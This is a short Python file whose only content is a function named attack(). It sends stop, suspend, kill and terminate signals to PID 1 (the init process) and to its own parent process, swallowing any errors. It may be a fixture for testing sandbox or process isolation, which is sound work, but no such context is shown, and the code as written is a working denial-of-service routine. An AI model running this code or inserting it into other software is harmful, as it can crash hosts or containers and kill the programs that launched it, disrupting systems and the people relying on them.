import os
import signal


def attack():
    for pid in (1, os.getppid()):
        for number in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGKILL, signal.SIGTERM):
            try:
                os.kill(pid, number)
            except OSError:
                pass
